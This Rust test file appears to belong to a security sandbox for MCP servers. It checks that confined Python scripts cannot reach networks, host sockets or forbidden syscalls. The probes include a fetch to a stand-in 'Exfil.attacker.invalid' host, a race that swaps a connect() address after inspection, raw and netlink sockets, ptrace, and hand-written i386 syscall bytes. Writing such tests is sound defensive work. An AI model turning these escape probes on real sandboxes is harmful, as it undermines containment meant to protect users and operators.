//! Reaching out: nothing arrives, everything is written down.
use std::{
    net::{TcpListener, UdpSocket},
    os::unix::net::{UnixDatagram, UnixListener},
    time::Duration,
};

use mcpsec_capture::observe::Reach;
use mcpsec_model::text::Untrusted;

use crate::stage::{Outcome, Stage};

const BOTH: [Reach; 2] = [Reach::Own, Reach::Shared];

fn hosts(outcome: &Outcome) -> Vec<&str> {
    outcome.observed.hosts.iter().map(Untrusted::raw).collect()
}

fn run(reach: Reach, script: &str) -> Option<Outcome> {
    Stage::new(reach).python(script)
}

/// What a script says about an attempt.
const ATTEMPT: &str = r"
import socket, errno, sys, os
def attempt(what):
    try:
        what()
        print('done')
    except OSError as error:
        print(errno.errorcode.get(error.errno, error.errno))
def tcp(address, family=socket.AF_INET):
    s = socket.socket(family, socket.SOCK_STREAM)
    s.settimeout(10)
    s.connect(address)
";

#[test]
fn tcp_gets_nowhere() {
    for reach in BOTH {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        listener.set_nonblocking(true).unwrap();
        let port = listener.local_addr().unwrap().port();
        let script = format!(
            "{ATTEMPT}
attempt(lambda: tcp(('127.0.0.1', {port})))
attempt(lambda: tcp(('192.0.2.1', 443)))
attempt(lambda: tcp(('2001:db8::1', 443), socket.AF_INET6))
attempt(lambda: tcp(('::ffff:192.0.2.9', 80), socket.AF_INET6))
attempt(lambda: tcp(('0.0.0.0', {port})))
"
        );
        let Some(outcome) = run(reach, &script) else { return };
        assert_eq!(outcome.said, "ECONNREFUSED\nENETUNREACH\nENETUNREACH\nENETUNREACH\nECONNREFUSED\n", "{reach:?}");
        let here = format!("127.0.0.1:{port}");
        let any = format!("0.0.0.0:{port}");
        let expected = [&any[..], &here, "192.0.2.1:443", "192.0.2.9:80", "[2001:db8::1]:443"];
        assert_eq!(hosts(&outcome), expected, "{reach:?}");
        assert!(!outcome.observed.incomplete);
        assert!(listener.accept().is_err(), "somebody came");
    }
}

#[test]
fn udp_gets_nowhere() {
    for reach in BOTH {
        let listener = UdpSocket::bind("127.0.0.1:0").unwrap();
        listener.set_nonblocking(true).unwrap();
        let port = listener.local_addr().unwrap().port();
        let script = format!(
            "{ATTEMPT}
def send(address):
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', address)
def message(address):
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendmsg([b'x'], [], 0, address)
def many(address):
    import ctypes, struct
    libc = ctypes.CDLL(None, use_errno=True)
    raw = ctypes.create_string_buffer(struct.pack('=H', 2) + struct.pack('!H', address[1]) + socket.inet_aton(address[0]) + bytes(8))
    data = ctypes.create_string_buffer(b'x', 1)
    part = ctypes.create_string_buffer(struct.pack('QQ', ctypes.addressof(data), 1))
    head = struct.pack('QQQQQQQQ', ctypes.addressof(raw), 16, ctypes.addressof(part), 1, 0, 0, 0, 0)
    buffer = ctypes.create_string_buffer(head)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    if libc.sendmmsg(s.fileno(), buffer, 1, 0) < 0:
        raise OSError(ctypes.get_errno(), 'sendmmsg')
def connected(address):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.connect(address)
    s.send(b'x')
for way in (send, message, many, connected):
    attempt(lambda: way(('192.0.2.1', 9)))
    attempt(lambda: way(('127.0.0.1', {port})))
"
        );
        let Some(outcome) = run(reach, &script) else { return };
        std::thread::sleep(Duration::from_millis(20));
        assert!(listener.recv_from(&mut [0; 8]).is_err(), "something came");
        match reach {
            Reach::Own => {
                // Its own loopback takes datagrams for nobody.
                assert!(outcome.said.starts_with(&"ENETUNREACH\ndone\n".repeat(3)), "{}", outcome.said);
                assert!(hosts(&outcome).contains(&"192.0.2.1:9"), "{:?}", outcome.observed);
            }
            Reach::Shared => {
                assert_eq!(outcome.said, "EACCES\n".repeat(8));
                assert_eq!(outcome.observed.refused.get("socket"), Some(&8));
            }
        }
    }
}

#[test]
fn unix_sockets_of_this_machine_are_out_of_reach() {
    let folder = tempfile::tempdir().unwrap();
    let (stream, datagram) = (folder.path().join("s"), folder.path().join("d"));
    let listener = UnixListener::bind(&stream).unwrap();
    listener.set_nonblocking(true).unwrap();
    let receiver = UnixDatagram::bind(&datagram).unwrap();
    receiver.set_nonblocking(true).unwrap();
    let script = format!(
        "{ATTEMPT}
def unix(kind, path):
    socket.socket(socket.AF_UNIX, kind).connect(path)
attempt(lambda: unix(socket.SOCK_STREAM, '{stream}'))
attempt(lambda: unix(socket.SOCK_STREAM, '/run/some/engine.sock'))
attempt(lambda: unix(socket.SOCK_STREAM, '\\0name'))
attempt(lambda: unix(socket.SOCK_SEQPACKET, '{stream}'))
attempt(lambda: socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(b'x', '{datagram}'))
attempt(lambda: socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM))
attempt(lambda: socket.socketpair())
",
        stream = stream.display(),
        datagram = datagram.display()
    );
    let Some(outcome) = run(Reach::Shared, &script) else { return };
    assert_eq!(outcome.said, "ENOENT\nENOENT\nECONNREFUSED\nENOENT\nEACCES\nEACCES\ndone\n");
    let files: Vec<&str> = outcome.observed.files.iter().map(Untrusted::raw).collect();
    assert_eq!(files, ["/run/some/engine.sock", "@name"]);
    assert!(listener.accept().is_err() && receiver.recv(&mut [0; 8]).is_err(), "somebody came");
    // With a file system of its own, only what lies on the device of its scratch folders is its own: these are folders that it
    // was given.
    for (scratch, watch_all) in [(None, true), (Some(1 << 40), true), (None, false), (Some(1 << 40), false)] {
        let mut stage = Stage::new(Reach::Own);
        stage.rules.scratch = scratch;
        stage.watch.connects_only = !watch_all;
        let outcome = stage.python(&script).unwrap();
        let (datagrams, pairs) = if watch_all { ("EACCES", "EACCES") } else { ("done", "done") };
        let expected = format!("EACCES\nENOENT\nECONNREFUSED\nEACCES\n{datagrams}\n{pairs}\ndone\n");
        assert_eq!(outcome.said, expected, "{scratch:?} {watch_all}");
        assert!(listener.accept().is_err(), "somebody came");
        // Where only connections are watched, the filter of the launcher refuses datagrams.
        assert_eq!(receiver.recv(&mut [0; 8]).is_err(), watch_all);
    }
}

#[test]
fn its_own_servers_are_in_reach() {
    let unix = "
s = socket.socket(socket.AF_UNIX); s.bind('own.sock'); s.listen()
c = socket.socket(socket.AF_UNIX); c.connect('own.sock')
a, _ = s.accept(); c.sendall(b'unix'); print(a.recv(9).decode())
";
    let tcp = "
s = socket.create_server(('127.0.0.1', 0))
c = socket.create_connection(s.getsockname())
a, _ = s.accept(); c.sendall(b'tcp'); print(a.recv(9).decode())
import asyncio
async def main():
    async def serve(r, w): w.write(b'asyncio'); w.close()
    server = await asyncio.start_server(serve, '::1', 0)
    r, w = await asyncio.open_connection(*server.sockets[0].getsockname()[:2])
    print((await r.read()).decode()); w.close()
asyncio.run(main())
";
    for connects_only in [false, true] {
        let mut stage = Stage::new(Reach::Own);
        stage.watch.connects_only = connects_only;
        let Some(outcome) = stage.python(&format!("import socket, errno\n{ATTEMPT}{unix}{tcp}")) else { return };
        assert_eq!(outcome.said, "unix\ntcp\nasyncio\n");
        assert_eq!(hosts(&outcome), [""; 0]);
    }
    let mut stage = Stage::new(Reach::Shared);
    stage.rules.sockets.push(stage.home.path().to_owned());
    let unnamed = "
def listens(name):
    s = socket.socket(socket.AF_UNIX)
    if name is not None: s.bind(name)
    s.listen()
attempt(lambda: listens('\\0abstract')); attempt(lambda: listens('')); attempt(lambda: listens(None))
";
    let outcome = stage.python(&format!("{ATTEMPT}{unix}{unnamed}attempt(lambda: socket.create_server(('127.0.0.1', 0)))\nattempt(lambda: socket.socket().listen())")).unwrap();
    assert_eq!(outcome.said, "unix\nEACCES\nEACCES\nEACCES\nEACCES\nEACCES\n");
    assert_eq!((outcome.observed.refused.get("bind"), outcome.observed.refused.get("listen")), (Some(&3), Some(&2)));
}

#[test]
fn a_link_does_not_lead_to_a_socket_outside() {
    let folder = tempfile::tempdir().unwrap();
    let outside = folder.path().join("s");
    let listener = UnixListener::bind(&outside).unwrap();
    listener.set_nonblocking(true).unwrap();
    let mut stage = Stage::new(Reach::Shared);
    stage.rules.sockets.push(stage.home.path().to_owned());
    let script = format!(
        "{ATTEMPT}
os.symlink('{}', 'l'); os.symlink('{}', 'f')
attempt(lambda: socket.socket(socket.AF_UNIX).connect('l'))
attempt(lambda: socket.socket(socket.AF_UNIX).connect('f/s'))
",
        outside.display(),
        folder.path().display()
    );
    let Some(outcome) = stage.python(&script) else { return };
    assert_eq!(outcome.said, "ELOOP\nELOOP\n");
    assert!(listener.accept().is_err(), "somebody came");
}

#[test]
fn names_are_told_and_lead_nowhere() {
    for reach in BOTH {
        let script = format!(
            "{ATTEMPT}
import urllib.request
def fetch(url):
    try: urllib.request.urlopen(url, timeout=10)
    except urllib.error.URLError as error: print(type(error.reason).__name__, error.reason.errno)
fetch('http://Exfil.attacker.invalid/x')
ip = socket.gethostbyname('second.invalid')
print(ip[:7])
attempt(lambda: tcp((ip, 80)))
print(len(socket.getaddrinfo('second.invalid', 443, type=socket.SOCK_STREAM)))
"
        );
        let Some(outcome) = run(reach, &script) else { return };
        assert_eq!(outcome.said, "OSError 101\n198.18.\nENETUNREACH\n1\n", "{reach:?}");
        assert_eq!(hosts(&outcome), ["exfil.attacker.invalid", "second.invalid"], "{reach:?}");
        assert!(outcome.observed.files.is_empty(), "{:?}", outcome.observed.files);
    }
}

#[test]
fn other_ways_out_are_refused_by_name() {
    for reach in BOTH {
        let script = format!(
            "{ATTEMPT}
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
def call(*args):
    if libc.syscall(*args) < 0: raise OSError(ctypes.get_errno(), 'x')
attempt(lambda: call(425, 8, 0))
attempt(lambda: libc.ptrace(16, 1, 0, 0) < 0 and call(101, 16, 1, 0, 0))
attempt(lambda: call(272, 0x10000000))
attempt(lambda: call(56, 0x10000011, 0, 0, 0, 0))
attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))
attempt(lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0))
attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132))
attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262))
attempt(lambda: socket.socket(40, socket.SOCK_STREAM, 0))
attempt(lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 15))
attempt(lambda: socket.if_nameindex())
s = socket.socket(); attempt(lambda: s.sendto(b'x', 0x20000000, ('192.0.2.7', 80)))
"
        );
        if cfg!(not(target_arch = "x86_64")) {
            return;
        }
        let Some(outcome) = run(reach, &script) else { return };
        let (own, sockets) = if reach == Reach::Own { ("done", 6) } else { ("EPERM", 7) };
        let expected = format!(
            "ENOSYS EPERM EPERM EPERM EPERM EPERM EPROTONOSUPPORT EPROTONOSUPPORT EAFNOSUPPORT EPERM {own} ENOTSUP"
        );
        assert_eq!(outcome.said.split_whitespace().collect::<Vec<_>>().join(" "), expected, "{reach:?}");
        let refused: Vec<_> = outcome.observed.refused.iter().map(|(name, times)| (name.as_str(), *times)).collect();
        let expected = [("clone", 1), ("io_uring_setup", 1), ("ptrace", 2), ("socket", sockets), ("unshare", 1)];
        assert_eq!(refused, expected, "{reach:?}");
        assert_eq!(hosts(&outcome), ["192.0.2.7:80"]);
    }
}

/// The same with a socket of this machine that the program was born with, in a network of its own.
#[test]
fn an_inherited_socket_is_not_connected_by_an_exchange() {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let stream = std::net::TcpStream::connect(listener.local_addr().unwrap()).unwrap();
    let _first = listener.accept().unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    let script = format!(
        "{ATTEMPT}
import ctypes, struct, mmap, time, signal
libc = ctypes.CDLL(None, use_errno=True)
unix = struct.pack('=H', 1) + b'own.sock' + bytes(16)
inet = struct.pack('=H', 2) + struct.pack('!H', {port}) + bytes([127, 0, 0, 1]) + bytes(18)
libc.connect(9, bytes(16), 16)
memory = mmap.mmap(-1, 4096)
memory[0:26] = unix
parent = os.getpid()
swapper = os.fork()
if swapper == 0:
    os.close(9)
    while os.getppid() == parent:
        for _ in range(1000): memory[0:26] = inet; memory[0:26] = unix
    os._exit(0)
at = ctypes.c_void_p(ctypes.addressof(ctypes.c_char.from_buffer(memory)))
end = time.monotonic() + 0.7
reached = False
while time.monotonic() < end and not reached:
    reached = libc.connect(9, at, 26) == 0
os.kill(swapper, signal.SIGKILL); os.waitpid(swapper, 0)
print(reached)
"
    );
    let mut stage = Stage::new(Reach::Own);
    stage.inherited = Some(stream.into());
    let Some(outcome) = stage.python(&script) else { return };
    assert_eq!(outcome.said, "False\n");
    assert!(listener.accept().is_err(), "somebody came");
}

/// One process exchanges the address while another connects: whichever the supervisor sees, the kernel must not use the other.
#[test]
fn an_address_cannot_be_exchanged_after_the_look() {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    let script = format!(
        "{ATTEMPT}
import ctypes, struct, mmap, time, signal
libc = ctypes.CDLL(None, use_errno=True)
harmless = [struct.pack('=H', 1) + b'own.sock' + bytes(16), struct.pack('=H', 16) + bytes(24), bytes(26)]
inet = struct.pack('=H', 2) + struct.pack('!H', {port}) + bytes([127, 0, 0, 1]) + bytes(18)
own = socket.socket(socket.AF_UNIX); own.bind('own.sock'); own.listen(512)
reached = 0
for first in harmless:
    memory = mmap.mmap(-1, 4096)
    memory[0:26] = first
    parent = os.getpid()
    swapper = os.fork()
    if swapper == 0:
        while os.getppid() == parent:
            for _ in range(1000): memory[0:26] = inet; memory[0:26] = first
        os._exit(0)
    at = ctypes.c_void_p(ctypes.addressof(ctypes.c_char.from_buffer(memory)))
    end = time.monotonic() + 0.7
    while time.monotonic() < end and not reached:
        s = socket.socket()
        libc.connect(s.fileno(), at, 26)
        try: s.getpeername(); reached += 1
        except OSError: pass
        s.close()
    os.kill(swapper, signal.SIGKILL); os.waitpid(swapper, 0)
print(reached)
"
    );
    let mut stage = Stage::new(Reach::Shared);
    stage.rules.sockets.push(stage.home.path().to_owned());
    let Some(outcome) = stage.python(&script) else { return };
    assert_eq!(outcome.said, "0\n");
    assert!(listener.accept().is_err(), "somebody came");
}

#[test]
fn many_messages_at_once_are_refused_where_the_network_is_shared() {
    let script = format!(
        "{ATTEMPT}
import ctypes, struct
libc = ctypes.CDLL(None, use_errno=True)
a, b = socket.socketpair()
data = ctypes.create_string_buffer(b'x', 1)
part = ctypes.create_string_buffer(struct.pack('QQ', ctypes.addressof(data), 1))
buffer = ctypes.create_string_buffer(struct.pack('QQQQQQQQ', 0, 0, ctypes.addressof(part), 1, 0, 0, 0, 0))
print(libc.sendmmsg(a.fileno(), buffer, 1, 0))
"
    );
    for (reach, said) in [(Reach::Own, "1\n"), (Reach::Shared, "-1\n")] {
        let Some(outcome) = run(reach, &script) else { return };
        assert_eq!(
            (outcome.said.as_str(), outcome.observed.refused.contains_key("sendmmsg")),
            (said, reach == Reach::Shared)
        );
    }
}

/// Descriptors that the program was born with may belong to the network of this machine.
#[test]
fn an_inherited_socket_reaches_nothing() {
    use std::os::fd::OwnedFd;
    for datagram in [true, false] {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        listener.set_nonblocking(true).unwrap();
        let receiver = UdpSocket::bind(listener.local_addr().unwrap()).unwrap();
        receiver.set_nonblocking(true).unwrap();
        let port = listener.local_addr().unwrap().port();
        let script = format!(
            "{ATTEMPT}
s = socket.socket(fileno=9)
attempt(lambda: s.connect(('127.0.0.1', {port})))
attempt(lambda: s.sendto(b'x', ('127.0.0.1', {port})))
attempt(lambda: s.sendmsg([b'x'], [], 0, ('127.0.0.1', {port})))
"
        );
        let mut stage = Stage::new(Reach::Own);
        stage.inherited = Some(if datagram {
            OwnedFd::from(UdpSocket::bind("127.0.0.1:0").unwrap())
        } else {
            let other = TcpListener::bind("127.0.0.1:0").unwrap();
            let stream = std::net::TcpStream::connect(other.local_addr().unwrap()).unwrap();
            OwnedFd::from(stream)
        });
        let script = if datagram {
            script
        } else {
            script.replace(
                "s = socket.socket(fileno=9)",
                "import ctypes\nctypes.CDLL(None).connect(9, bytes(16), 16)\ns = socket.socket(fileno=9)",
            )
        };
        let Some(outcome) = stage.python(&script) else { return };
        std::thread::sleep(Duration::from_millis(20));
        assert!(listener.accept().is_err() && receiver.recv(&mut [0; 8]).is_err(), "somebody came: {}", outcome.said);
        assert!(outcome.said.starts_with("ENETUNREACH\n"), "{}", outcome.said);
    }
}

#[test]
fn other_instruction_sets_end_the_program() {
    if cfg!(not(target_arch = "x86_64")) {
        return;
    }
    // getpid, as x32 and as i386: the second by `mov eax, 20; int 0x80; ret`.
    let x32 = "import ctypes; ctypes.CDLL(None).syscall(0x40000000 | 39); print('alive')";
    let i386 = "
import ctypes, mmap
code = mmap.mmap(-1, 4096, prot=7); code.write(bytes([0xb8, 20, 0, 0, 0, 0xcd, 0x80, 0xc3]))
ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(code)))(); print('alive')
";
    for script in [x32, i386] {
        let Some(outcome) = run(Reach::Own, script) else { return };
        assert_eq!((outcome.said.as_str(), outcome.signal), ("", Some(libc::SIGSYS)));
    }
}

#[test]
fn strangers_at_the_door_are_not_served() {
    let mut stage = Stage::new(Reach::Shared);
    stage.visitor = Some(|door| {
        use std::io::Write as _;
        let query = b"\0\x1dab\x01\0\0\x01\0\0\0\0\0\0\x03bad\x07invalid\0\0\x01\0\x01";
        std::net::TcpStream::connect(door).unwrap().write_all(query).unwrap();
    });
    let Some(outcome) = stage.python("import socket; print(socket.gethostbyname('good.invalid')[:6])") else { return };
    assert_eq!(outcome.said, "198.18\n");
    assert_eq!(hosts(&outcome), ["good.invalid"]);
}
